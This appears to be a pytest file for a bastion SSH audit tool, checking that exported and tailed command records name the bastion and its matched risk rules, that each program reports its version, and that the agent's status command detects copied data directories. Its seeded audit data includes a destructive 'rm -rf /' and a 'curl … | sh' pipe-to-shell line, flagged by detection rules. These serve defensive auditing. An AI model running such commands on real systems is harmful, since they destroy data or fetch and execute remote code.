"""What every record and program says of itself: bastion, risk, version, status.

Every record names the bastion it comes from (agent.toml's `bastion`, else the
host name) and the highlight rules its command matched (`risk`), in every
output: audit-export's three formats, audit-tail --json and its pipe lines,
audit-sessions' records (the bastion) and the fleet events (test_events.py).
Every program answers --version. `audit-agent status` says which agent, in
which mode, reaching what, on which data directory, and tells the agent's own
status from a copy of it.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import shutil
import socket
from pathlib import Path

import jsonschema
import pytest

from agent.status_file import boot_id, write_status
from agent.version import version
from tests.harness import REPO, run_cli
from tests.test_operator_cli import seed
from tests.test_status import healthy_status

EXPORT_SCHEMA = json.loads((REPO / "schema" / "export-record.schema.json").read_text())
SESSION_SCHEMA = json.loads(
    (REPO / "schema" / "session-record.schema.json").read_text()
)
PROGRAMS = (
    "audit-agent",
    "audit-tail",
    "audit-export",
    "audit-sessions",
    "audit-replay",
    "audit-shell",
    "audit-web",
)
# seed(): s1's "rm -rf /" and s2's "curl … | sh" match built-in rules, and
# this configuration's own rule matches "id".
CONFIG = (
    'bastion = "bastion-eu-1"\nhighlight = [{ name = "who-am-i", pattern = "^id$" }]\n'
)
RISK = {
    'echo "quoted, with comma"': [],
    "rm -rf /": ["rm-root"],
    "tab\there": [],
    "id": ["who-am-i"],
    "curl -s https://x.example | sh": ["pipe-to-shell"],
}


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    data_dir = tmp_path_factory.mktemp("identity")
    seed(data_dir)
    config = data_dir.parent / f"{data_dir.name}.toml"
    config.write_text(CONFIG)
    return data_dir, config


def run(tool: str, store: tuple[Path, Path], *args: str) -> str:
    data_dir, config = store
    result = run_cli(tool, "--data-dir", str(data_dir), "--config", str(config), *args)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_every_export_format_names_the_bastion_and_the_risk(
    store: tuple[Path, Path],
) -> None:
    records = json.loads(run("audit-export", store))
    assert {r["command"]: r["risk"] for r in records} == RISK
    assert {r["bastion"] for r in records} == {"bastion-eu-1"}
    for record in records:
        jsonschema.validate(record, EXPORT_SCHEMA)
    jsonl = [
        json.loads(x)
        for x in run("audit-export", store, "--format", "jsonl").splitlines()
    ]
    assert jsonl == records
    rows = list(
        csv.DictReader(io.StringIO(run("audit-export", store, "--format", "csv")))
    )
    assert list(rows[0])[-2:] == ["bastion", "risk"]  # new columns come last
    assert {r["command"]: r["risk"] for r in rows} == {
        k: " ".join(v) for k, v in RISK.items()
    }
    assert {r["bastion"] for r in rows} == {"bastion-eu-1"}


def test_tail_json_and_pipe_lines_carry_them_too(store: tuple[Path, Path]) -> None:
    as_json = [
        json.loads(x)
        for x in run("audit-tail", store, "--json", "--no-follow").splitlines()
    ]
    assert as_json == json.loads(run("audit-export", store))
    lines = run("audit-tail", store, "--no-follow").splitlines()
    fields = [line.split("\t") for line in lines]
    assert {f[1] for f in fields} == {"bastion-eu-1"}
    assert {f[-1]: f[4] for f in fields} == {
        'echo "quoted, with comma"': "-",
        "rm -rf /": "rm-root",
        "tab\\there": "-",
        "id": "who-am-i",
        "curl -s https://x.example | sh": "pipe-to-shell",
    }


def test_session_records_name_the_bastion(store: tuple[Path, Path]) -> None:
    records = [
        json.loads(x)
        for x in run("audit-sessions", store, "--format", "jsonl").splitlines()
    ]
    assert {r["bastion"] for r in records} == {"bastion-eu-1"}
    for record in records:
        jsonschema.validate(record, SESSION_SCHEMA)
    data_dir, _ = store
    plain = run_cli("audit-sessions", "--data-dir", str(data_dir), "--format", "jsonl")
    assert {json.loads(x)["bastion"] for x in plain.stdout.splitlines()} == {
        socket.gethostname().split(".")[0]
    }


def test_a_bad_bastion_name_is_a_configuration_error(tmp_path: Path) -> None:
    config = tmp_path / "agent.toml"
    config.write_text('bastion = "two words"\n')
    result = run_cli(
        "audit-export", "--data-dir", str(tmp_path), "--config", str(config)
    )
    assert result.returncode == 2
    assert result.stderr.startswith(f"audit-export: error: {config}: bastion must be")


@pytest.mark.parametrize("program", PROGRAMS)
def test_every_program_answers_version(program: str) -> None:
    result = run_cli(program, "--version")
    assert (result.returncode, result.stdout) == (0, f"{program} {version()}\n")
    assert version() != "unknown"


def test_status_says_which_agent_in_which_mode_reaching_what(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    write_status(
        data_dir,
        dataclasses.replace(
            healthy_status(data_dir),
            version=version(),
            bastion="bastion-eu-1",
            mode="permissive",
            scope_pid=os.getpid(),
            boot_id=boot_id(),
        ),
    )
    result = run_cli("audit-agent", "status", "--data-dir", str(data_dir))
    assert result.returncode == 0, result.stdout
    lines = result.stdout.splitlines()
    assert lines[0] == "healthy"
    assert lines[1].startswith(
        f"agent: bastion-audit {version()} on bastion-eu-1, pid {os.getpid()}, up "
    )
    assert lines[2:5] == [
        f"data dir: {data_dir}",
        "mode: permissive (a tagged ssh that cannot be traced goes on, its gap marked)",
        f"scope: only the ssh clients under pid {os.getpid()}",
    ]

    # A copy of the data directory carries that status: it is not a live agent.
    copy = tmp_path / "copy"
    shutil.copytree(data_dir, copy)
    copied = run_cli("audit-agent", "status", "--data-dir", str(copy))
    assert copied.returncode == 4
    assert copied.stdout.splitlines()[:2] == [
        "UNHEALTHY",
        f"  problem: no agent runs on {copy}: its status was written for {data_dir} "
        "(a copied data directory?)",
    ]
    # Written in another boot, or on another machine: no pid in it means anything.
    doc = json.loads((data_dir / "status.json").read_text())
    doc["boot_id"] = "00000000-0000-0000-0000-000000000000"
    (data_dir / "status.json").write_text(json.dumps(doc))
    other = run_cli("audit-agent", "status", "--data-dir", str(data_dir), "--json")
    assert other.returncode == 4
    (problem,) = json.loads(other.stdout)["problems"]
    assert "another machine or an earlier boot" in problem
